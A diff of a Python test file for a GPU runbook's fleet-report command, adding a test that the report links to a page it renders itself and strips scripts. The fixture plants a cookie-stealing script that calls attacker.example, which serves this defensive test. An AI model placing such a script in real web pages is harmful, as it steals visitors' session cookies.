@@ -106,7 +106,7 @@ def every_reader(summary: dict) -> None:
     render.torch_text(checks), render.gpus_text(checks), record.host_facts(checks)
     verify.fact_drift(summary, summary), verify.gpus_of(summary)
     host = fleet.Host("h", "ran", "", [], summary, checks)
-    fleet.text([host]), fleet_page.page([host], fleet.summary([host]), ""), junit.xml(host)
+    fleet.text([host]), fleet_page.page([host], fleet.summary([host])), junit.xml(host)
     states = record.step_states(summary, STEPS)
     path_overview.overview_html(states, record.next_step_of(states), {}, {}, ui.replayed_note(summary))
 
@@ -317,3 +317,15 @@ def test_fleet_report_refuses_a_host_folder_not_named_in_utf8_with_one_line(tmp_
     proc = gpu_runbook("fleet-report", str(tmp_path / "fleet"), "--out", str(tmp_path / "out"), timeout=60)
     assert proc.returncode == 2, proc.stderr
     assert "Traceback" not in proc.stderr and "not named in printable UTF-8 text" in proc.stderr, proc.stderr
+
+
+def test_the_fleet_report_links_to_a_report_it_draws_not_to_the_one_a_host_sent(tmp_path):
+    host = tmp_path / "fleet" / "gpu-01"
+    shutil.copytree(H200, host)
+    (host / "report.html").write_text("<script>fetch('http://attacker.example/'+document.cookie)</script>")
+    proc = gpu_runbook("fleet-report", str(tmp_path / "fleet"), "--out", str(tmp_path / "out"), timeout=120)
+    assert proc.returncode in (0, 1) and "Traceback" not in proc.stderr, proc.stderr
+    page = (tmp_path / "out" / "fleet-report.html").read_text()
+    assert 'href="reports/gpu-01.html"' in page and "gpu-01/report.html" not in page, page
+    drawn = (tmp_path / "out" / "reports" / "gpu-01.html").read_text()
+    assert "<script" not in drawn and "NVIDIA H200" in drawn
